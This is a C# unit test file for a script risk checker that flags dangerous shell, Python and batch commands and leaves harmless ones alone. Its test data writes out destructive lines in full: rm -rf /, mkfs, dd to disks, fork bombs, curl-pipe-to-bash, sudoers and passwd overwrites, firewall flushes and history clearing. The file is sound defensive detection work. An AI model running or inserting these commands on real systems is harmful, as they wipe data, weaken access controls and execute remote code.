using System.Diagnostics;
using System.Text;
using Drover.Domain.Scripts;
using Drover.Domain.Scripts.Risk;

namespace Drover.Domain.Tests.Scripts;

/// <summary>semantics "Risk check": the blacklist finds the dangerous commands and leaves the harmless lines alone.</summary>
public class RiskRulesTests
{
    private static IReadOnlyList<string> RuleIds(string content, ScriptKind kind = ScriptKind.Shell) =>
        RiskRules.Analyze(content, kind).Findings.Select(f => f.RuleId).ToList();

    public static TheoryData<string, string> Dangerous => new()
    {
        // rm of / or a system directory, any flag spelling, quoted or not, behind sudo, after ; && | or inside $( ).
        { "rm-recursive-system", "rm -rf /" },
        { "rm-recursive-system", "rm -fr /" },
        { "rm-recursive-system", "rm -r -f /" },
        { "rm-recursive-system", "rm --recursive --force /" },
        { "rm-recursive-system", "rm -Rf /" },
        { "rm-recursive-system", "rm -rf /*" },
        { "rm-recursive-system", "rm -rf /etc" },
        { "rm-recursive-system", "rm -rf /usr/" },
        { "rm-recursive-system", "rm -rf /usr/*" },
        { "rm-recursive-system", "rm -rf \"/var\"" },
        { "rm-recursive-system", "rm -rf '/home/'" },
        { "rm-recursive-system", "rm -rf ~" },
        { "rm-recursive-system", "rm -rf ~/" },
        { "rm-recursive-system", "rm -rf $HOME" },
        { "rm-recursive-system", "rm -rf \"${HOME}\"/*" },
        { "rm-recursive-system", "rm -rf -- /boot" },
        { "rm-recursive-system", "rm -rf --no-preserve-root /" },
        { "rm-recursive-system", "rm -rf / # clean up" },
        { "rm-recursive-system", "cd /tmp; rm -rf /" },
        { "rm-recursive-system", "true && rm -rf /lib64" },
        { "rm-recursive-system", "sudo rm -rf /" },
        { "rm-recursive-system", "sudo -u root rm -rf /sbin" },
        { "rm-recursive-system", "env LANG=C rm -rf /opt" },
        { "rm-recursive-system", "nohup rm -rf / &" },
        { "rm-recursive-system", "echo / | xargs rm -rf /" },
        { "rm-recursive-system", "x=$(rm -rf /root)" },
        { "rm-recursive-system", "/bin/rm -rf /srv" },
        { "rm-recursive-system", "bash -c 'rm -rf /'" },
        { "rm-recursive-system", "if true; then rm -rf /proc; fi" },
        { "mkfs", "mkfs /dev/sdb" },
        { "mkfs", "mkfs.ext4 /dev/sdb1" },
        { "mkfs", "mkfs.xfs -f /dev/vdb" },
        { "mkfs", "sudo mkfs -t ext4 /dev/nvme0n1" },
        { "mkfs", "mke2fs /dev/sdc" },
        { "dd-to-device", "dd if=/dev/zero of=/dev/sda" },
        { "dd-to-device", "dd if=image.iso of=/dev/sdb bs=4M" },
        { "dd-to-device", "sudo dd of=/dev/nvme0n1 if=/dev/urandom" },
        { "write-to-disk", "echo 0 > /dev/sda" },
        { "write-to-disk", "cat image >/dev/sdb1" },
        { "write-to-disk", "cat x >> /dev/nvme0n1" },
        { "write-to-disk", "printf x > /dev/vda" },
        { "write-to-disk", "cat x > /dev/xvda" },
        { "write-to-disk", "cat x > /dev/hda" },
        { "write-to-disk", "cat x > /dev/mmcblk0" },
        { "write-to-disk", "cat x | tee /dev/sda" },
        { "power-off", "shutdown -h now" },
        { "power-off", "shutdown -r +5" },
        { "power-off", "reboot" },
        { "power-off", "sudo reboot" },
        { "power-off", "halt" },
        { "power-off", "poweroff" },
        { "power-off", "/sbin/reboot" },
        { "power-off", "make install && reboot" },
        { "power-off", "echo done; reboot" },
        { "power-off", "echo \"done; now\"; reboot" },
        { "power-off", "nohup shutdown -r now &" },
        { "init-runlevel", "init 0" },
        { "init-runlevel", "init 6" },
        { "init-runlevel", "telinit 0" },
        { "systemctl-power", "systemctl poweroff" },
        { "systemctl-power", "systemctl reboot" },
        { "systemctl-power", "systemctl halt" },
        { "systemctl-power", "systemctl --force reboot" },
        { "fork-bomb", ":(){ :|:& };:" },
        { "fork-bomb", ":() { : | : & }; :" },
        { "fork-bomb", ": ( ) { :|:& } ; :" },
        { "fork-bomb", "bomb(){ bomb|bomb& }; bomb" },
        { "fork-bomb", "function f() { f | f & }; f" },
        { "chmod-recursive-system", "chmod -R 777 /" },
        { "chmod-recursive-system", "chmod 777 -R /" },
        { "chmod-recursive-system", "chmod --recursive 777 /" },
        { "chmod-recursive-system", "chmod -R 0777 /etc" },
        { "chmod-recursive-system", "sudo chmod -R a+rwx /usr/" },
        { "kill-all", "kill -9 -1" },
        { "kill-all", "kill -KILL -1" },
        { "kill-all", "kill -s KILL -1" },
        { "kill-all", "kill -SIGKILL -1" },
        { "kill-all", "kill -- -1" },
        { "kill-all", "sudo kill -9 -1" },
        { "firewall-flush", "iptables -F" },
        { "firewall-flush", "iptables --flush" },
        { "firewall-flush", "iptables -t nat -F" },
        { "firewall-flush", "ip6tables -F" },
        { "firewall-flush", "nft flush ruleset" },
        { "firewall-flush", "sudo iptables -F INPUT" },
        { "crontab-remove", "crontab -r" },
        { "crontab-remove", "crontab -u root -r" },
        { "crontab-remove", "crontab -ir" },
        { "download-to-shell", "curl -fsSL https://example.com/i.sh | sh" },
        { "download-to-shell", "curl https://example.com/i.sh|bash" },
        { "download-to-shell", "wget -O- https://example.com/i.sh | bash" },
        { "download-to-shell", "wget -qO - http://x/i | sudo bash" },
        { "download-to-shell", "curl -s http://x/i | sudo -E bash -s -- --yes" },
        { "download-to-shell", "curl http://x/i | /bin/sh" },
        { "download-to-shell", "curl http://x/i.py | python3" },
        { "download-to-shell", "bash <(curl -s http://x/i)" },
        { "download-to-shell", "source <(curl -s http://x/i)" },
        { "download-to-shell", "sh -c \"$(curl -fsSL http://x/i)\"" },
        { "download-to-shell", "bash -c \"$(wget -qO- http://x/i)\"" },
        // MEDIUM.
        { "rm-recursive-variable", "rm -rf $DIR/" },
        { "rm-recursive-variable", "rm -rf \"$BUILD_DIR\"/*" },
        { "rm-recursive-variable", "rm -rf ${PREFIX}/lib" },
        { "rm-recursive-variable", "rm -r $1" },
        { "chmod-recursive-777", "chmod -R 777 /data/app" },
        { "chmod-recursive-777", "chmod 777 -R ./public" },
        { "user-delete", "userdel deploy" },
        { "user-delete", "sudo userdel -r deploy" },
        { "user-delete", "deluser bob" },
        { "change-password", "passwd root" },
        { "change-password", "passwd" },
        { "change-password", "echo 'root:x' | chpasswd" },
        { "change-password", "echo secret | passwd --stdin root" },
        { "change-password", "passwd -l deploy" },
        { "change-password", "usermod -p hash deploy" },
        { "stop-remote-access", "systemctl stop sshd" },
        { "stop-remote-access", "systemctl disable ssh" },
        { "stop-remote-access", "systemctl stop sshd.service" },
        { "stop-remote-access", "systemctl stop nginx network" },
        { "stop-remote-access", "systemctl mask NetworkManager" },
        { "stop-remote-access", "service network stop" },
        { "write-account-file", "echo 'x:x:0:0::/:/bin/sh' > /etc/passwd" },
        { "write-account-file", "cat f >/etc/shadow" },
        { "write-account-file", "echo 'ops ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers" },
        { "write-account-file", "echo x | tee -a /etc/sudoers" },
        { "clear-history", "history -c" },
        { "clear-history", "unset HISTFILE" },
    };

    [Theory]
    [MemberData(nameof(Dangerous))]
    public void A_dangerous_shell_line_is_found(string rule, string line)
    {
        var report = RiskRules.Analyze(line, ScriptKind.Shell);
        report.Findings.Select(f => f.RuleId).ShouldContain(rule, $"line: {line}");
        var finding = report.Findings.First(f => f.RuleId == rule);
        finding.Line.ShouldBe(1);
        finding.Matched.ShouldNotBeNullOrWhiteSpace();
        line.ShouldContain(finding.Matched.Trim('\'', '"'), Case.Sensitive, "matched is text of the line");
        report.Level.ShouldBe(ShellRules.All.Where(r => report.Findings.Any(f => f.RuleId == r.Id)).Max(r => r.Level));
    }

    public static TheoryData<string> Harmless => new()
    {
        "rm -rf /tmp/build",
        "rm -rf ./dist",
        "rm -rf dist/ node_modules",
        "rm -rf /home/deploy/releases/old",
        "rm -rf /var/tmp/cache",
        "rm -f /etc/nginx/conf.d/default.conf",
        "rm -rf \"${DIR:?}/\"",
        "rm /",
        "rmdir -p /tmp/a/b",
        "echo reboot",
        "echo \"reboot\"",
        "echo 'rm -rf /'",
        "printf 'shutdown -h now\\n'",
        "echo \"run: systemctl reboot; kill -9 -1\"",
        "grep shutdown /var/log/syslog",
        "grep -E 'reboot|halt' /var/log/messages",
        "ls /dev/sda",
        "cat /dev/sda1 > /tmp/x",
        "dd if=/dev/sda of=/tmp/disk.img",
        "dd if=/dev/zero of=/tmp/file bs=1M count=10",
        "dd if=/dev/zero of=/dev/null",
        "echo x > /dev/null 2>&1",
        "fdisk -l /dev/sda",
        "./reboot.sh",
        "reboot_required=1",
        "systemctl status sshd",
        "systemctl restart nginx",
        "systemctl reboot-check",
        "kill -9 1234",
        "kill -1 1234",
        "kill -HUP $(cat /run/nginx.pid)",
        "iptables -L -n",
        "iptables -A INPUT -p tcp --dport 22 -j ACCEPT",
        "crontab -l",
        "crontab -l > /root/cron.bak",
        "curl -fsSL https://example.com/i.sh -o /tmp/i.sh",
        "curl -s http://x/health || echo down",
        "wget http://x/file.tar.gz && tar xzf file.tar.gz",
        "chmod 755 /usr/local/bin/tool",
        "chmod -R 755 /opt/app",
        "chmod 777 /tmp/x",
        "cat /etc/passwd",
        "grep root /etc/shadow",
        "passwd -S root",
        "history | tail",
        "init_db --force",
        "mkdir -p /opt/app",
        "# rm -rf /",
        "    # reboot",
        "echo hi # rm -rf /",
        "bomb() { echo hi; }",
        "man shutdown",
        "apt-get install -y sysvinit",
    };

    [Theory]
    [MemberData(nameof(Harmless))]
    public void A_harmless_shell_line_is_not_found(string line)
    {
        var report = RiskRules.Analyze(line, ScriptKind.Shell);
        report.Findings.ShouldBeEmpty($"line: {line}: {string.Join(", ", report.Findings.Select(f => $"{f.RuleId} '{f.Matched}'"))}");
        report.Level.ShouldBe(RiskLevel.Low);
    }

    public static TheoryData<string, string> DangerousPython => new()
    {
        { "rm-recursive-system", "os.system('rm -rf /')" },
        { "rm-recursive-system", "subprocess.run([\"rm\", \"-rf\", \"/\"])" },
        { "power-off", "subprocess.call('reboot', shell=True)" },
        { "power-off", "os.popen(\"shutdown -h now\")" },
        { "mkfs", "subprocess.check_output(['mkfs.ext4', '/dev/sdb'])" },
        { "download-to-shell", "os.system(\"curl -s http://x/i | bash\")" },
        { "kill-all", "    subprocess.Popen(['kill', '-9', '-1'])" },
    };

    [Theory]
    [MemberData(nameof(DangerousPython))]
    public void Python_commands_handed_to_the_system_are_read_with_the_shell_rules(string rule, string line) =>
        RuleIds(line, ScriptKind.Python).ShouldContain(rule, $"line: {line}");

    [Theory]
    [InlineData("print('reboot')")]
    [InlineData("# os.system('rm -rf /')")]
    [InlineData("shutil.rmtree('/tmp/build')")]
    [InlineData("os.system('rm -rf /tmp/build')")]
    [InlineData("log.info(\"rm -rf / is dangerous\")")]
    [InlineData("subprocess.run(['echo', 'reboot'])")]
    public void Harmless_python_is_not_found(string line) => RuleIds(line, ScriptKind.Python).ShouldBeEmpty($"line: {line}");

    public static TheoryData<string, string> DangerousBat => new()
    {
        { "bat-format", "format D: /q" },
        { "bat-format", "FORMAT c: /FS:NTFS" },
        { "bat-delete-drive", @"rd /s /q C:\" },
        { "bat-delete-drive", @"rmdir /S /Q c:\windows" },
        { "bat-delete-drive", @"del /f /s /q C:\*" },
        { "bat-delete-drive", @"del /s /q %SystemRoot%" },
        { "bat-shutdown", "shutdown /s /t 0" },
        { "bat-shutdown", "shutdown -r -t 30" },
        { "bat-shutdown", "@shutdown /r" },
        { "bat-shutdown", "cmd /c shutdown /s" },
        { "bat-shutdown", "echo bye & shutdown /p" },
        { "bat-user-delete", "net user deploy /delete" },
        { "bat-registry-delete", @"reg delete HKLM\SOFTWARE\Vendor /f" },
    };

    [Theory]
    [MemberData(nameof(DangerousBat))]
    public void A_dangerous_bat_line_is_found(string rule, string line) => RuleIds(line, ScriptKind.Bat).ShouldContain(rule, $"line: {line}");

    [Theory]
    [InlineData("REM shutdown /s /t 0")]
    [InlineData("rem format c:")]
    [InlineData("@REM rd /s /q C:\\")]
    [InlineData(":: shutdown /s")]
    [InlineData("shutdown /a")]
    [InlineData("echo shutdown /s")]
    [InlineData("rd /s /q C:\\temp\\build")]
    [InlineData("del /q C:\\temp\\*.log")]
    [InlineData("net user deploy")]
    [InlineData("reg query HKLM\\SOFTWARE\\Vendor")]
    public void Harmless_bat_is_not_found(string line) => RuleIds(line, ScriptKind.Bat).ShouldBeEmpty($"line: {line}");

    [Fact]
    public void Shell_rules_do_not_apply_to_bat_nor_bat_rules_to_shell()
    {
        RuleIds("rm -rf /", ScriptKind.Bat).ShouldBeEmpty();
        RuleIds("format c:", ScriptKind.Shell).ShouldBeEmpty();
    }

    [Fact]
    public void Findings_carry_the_rule_its_texts_and_the_line()
    {
        var script = "#!/bin/bash\nset -e\n\necho start\nrm -rf $TARGET/\nreboot\n";
        var report = RiskRules.Analyze(script, ScriptKind.Shell);
        report.Level.ShouldBe(RiskLevel.High);
        report.Findings.Select(f => (f.RuleId, f.Line, f.Level)).ShouldBe(
            [("rm-recursive-variable", 5, RiskLevel.Medium), ("power-off", 6, RiskLevel.High)]);
        var rm = report.Findings[0];
        rm.Matched.ShouldBe("rm -rf $TARGET");
        var rule = ShellRules.All.Single(r => r.Id == "rm-recursive-variable");
        rm.Rule.ShouldBe(rule.Pattern.ToString());
        (rm.CommandName, rm.Example, rm.DescriptionEn, rm.DescriptionZh).ShouldBe((rule.CommandName, rule.Example, rule.DescriptionEn, rule.DescriptionZh));
    }

    [Fact]
    public void A_clean_script_is_low_with_no_findings()
    {
        var report = RiskRules.Analyze("#!/bin/sh\nset -eu\ncd /opt/app\nrm -rf ./build\nmake\nsystemctl restart app\n", ScriptKind.Shell);
        report.Level.ShouldBe(RiskLevel.Low);
        report.Findings.ShouldBeEmpty();
        RiskRules.Analyze("", ScriptKind.Shell).ShouldBe(new RiskReport(RiskLevel.Low, []), new RiskReportComparer());
    }

    [Fact]
    public void Only_medium_findings_make_a_medium_script() =>
        RiskRules.Analyze("history -c\nuserdel bob\n", ScriptKind.Shell).Level.ShouldBe(RiskLevel.Medium);

    [Fact]
    public void A_continued_command_is_one_line_reported_at_its_first_physical_line()
    {
        var script = "echo a\nrm \\\n  -rf \\\n  /\necho b\r\nsudo \\\r\n reboot\r\n";
        var report = RiskRules.Analyze(script, ScriptKind.Shell);
        report.Findings.Select(f => (f.RuleId, f.Line)).ShouldBe([("rm-recursive-system", 2), ("power-off", 6)]);
    }

    [Fact]
    public void An_escaped_backslash_at_the_end_does_not_continue_the_line() =>
        RiskRules.Analyze("echo a\\\\\nreboot\n", ScriptKind.Shell).Findings.Single().Line.ShouldBe(2);

    [Fact]
    public void A_comment_ending_in_a_backslash_does_not_swallow_the_next_line() =>
        RiskRules.Analyze("# note \\\nreboot\n", ScriptKind.Shell).Findings.Single().Line.ShouldBe(2);

    [Fact]
    public void A_bat_caret_continues_the_line() =>
        RiskRules.Analyze("echo x\nshutdown ^\n /s /t 0\n", ScriptKind.Bat).Findings.Single().Line.ShouldBe(2);

    [Fact]
    public void One_line_with_several_dangers_reports_each_rule_once()
    {
        var report = RiskRules.Analyze("mkfs /dev/sdb; mkfs /dev/sdc; reboot", ScriptKind.Shell);
        report.Findings.Select(f => f.RuleId).ShouldBe(["mkfs", "power-off"]);
    }

    [Fact]
    public void The_most_severe_rule_of_a_family_is_the_one_reported()
    {
        RuleIds("rm -rf / $DIR/").ShouldBe(["rm-recursive-system"]);
        RuleIds("chmod -R 777 /").ShouldBe(["chmod-recursive-system"]);
    }

    [Fact]
    public void Findings_stop_at_256_and_the_level_still_counts_the_rest()
    {
        var script = string.Join('\n', Enumerable.Repeat("history -c", 300)) + "\nreboot\n";
        var report = RiskRules.Analyze(script, ScriptKind.Shell);
        report.Findings.Count.ShouldBe(RiskRules.MaxFindings);
        report.Findings[^1].Line.ShouldBe(256);
        report.Level.ShouldBe(RiskLevel.High);
    }

    [Fact]
    public void Matched_text_is_cut_to_200_characters()
    {
        var line = "rm -rf " + new string('x', 300) + " /";
        var finding = RiskRules.Analyze(line, ScriptKind.Shell).Findings.Single();
        finding.Matched.Length.ShouldBe(RiskRules.MaxMatchedLength);
        finding.Matched.ShouldStartWith("rm -rf xxx");
    }

    [Fact]
    public void Every_rule_is_complete_unique_and_its_example_is_found()
    {
        foreach (var (kind, rules) in new[] { (ScriptKind.Shell, ShellRules.All), (ScriptKind.Bat, BatRules.All) })
        {
            rules.Select(r => r.Id).ShouldBeUnique();
            foreach (var r in rules)
            {
                foreach (var text in new[] { r.Id, r.CommandName, r.Example, r.DescriptionEn, r.DescriptionZh, r.Rule })
                    text.Length.ShouldBeInRange(1, 1024, $"{r.Id}: COC's fields are 1-1024 characters");
                r.Pattern.MatchTimeout.ShouldBe(TimeSpan.FromMilliseconds(100), r.Id);
                RuleIds(r.Example, kind).ShouldContain(r.Id, $"the example of {r.Id}");
            }
        }
    }

    [Fact]
    public void A_100_KB_script_is_analysed_quickly()
    {
        var lines = new[]
        {
            "cd /opt/app && ./configure --prefix=/usr/local | tee build.log", "rm -rf ./build /tmp/cache-$RANDOM",
            "echo \"step $i done; next\" >> /var/log/deploy.log", "for f in *.conf; do cp \"$f\" /etc/app/; done",
            "curl -fsSL https://example.com/pkg.tar.gz -o /tmp/pkg.tar.gz", "grep -E 'shutdown|reboot' /var/log/syslog || true",
        };
        var sb = new StringBuilder();
        for (var i = 0; sb.Length < 100 * 1024; i++) sb.Append(lines[i % lines.Length]).Append('\n');
        var script = sb.ToString();
        RiskRules.Analyze(script, ScriptKind.Shell); // warm up
        var watch = Stopwatch.StartNew();
        var report = RiskRules.Analyze(script, ScriptKind.Shell);
        watch.Stop();
        report.Findings.ShouldBeEmpty();
        watch.Elapsed.ShouldBeLessThan(TimeSpan.FromSeconds(2));
    }

    [Theory]
    [InlineData(' ')]
    [InlineData('a')]
    [InlineData(':')]
    [InlineData('/')]
    [InlineData(';')]
    [InlineData('"')]
    [InlineData('-')]
    public void A_100_KB_line_of_one_character_does_not_backtrack(char c)
    {
        var line = "rm -rf " + new string(c, 100 * 1024) + "| chmod -R 777 " + new string(c, 1000);
        var watch = Stopwatch.StartNew();
        RiskRules.Analyze(line, ScriptKind.Shell);
        RiskRules.Analyze(line, ScriptKind.Python);
        RiskRules.Analyze(line, ScriptKind.Bat);
        watch.Elapsed.ShouldBeLessThan(TimeSpan.FromSeconds(2));
    }

    private sealed class RiskReportComparer : IEqualityComparer<RiskReport>
    {
        public bool Equals(RiskReport? x, RiskReport? y) => x?.Level == y?.Level && x!.Findings.SequenceEqual(y!.Findings);
        public int GetHashCode(RiskReport obj) => obj.Level.GetHashCode();
    }
}
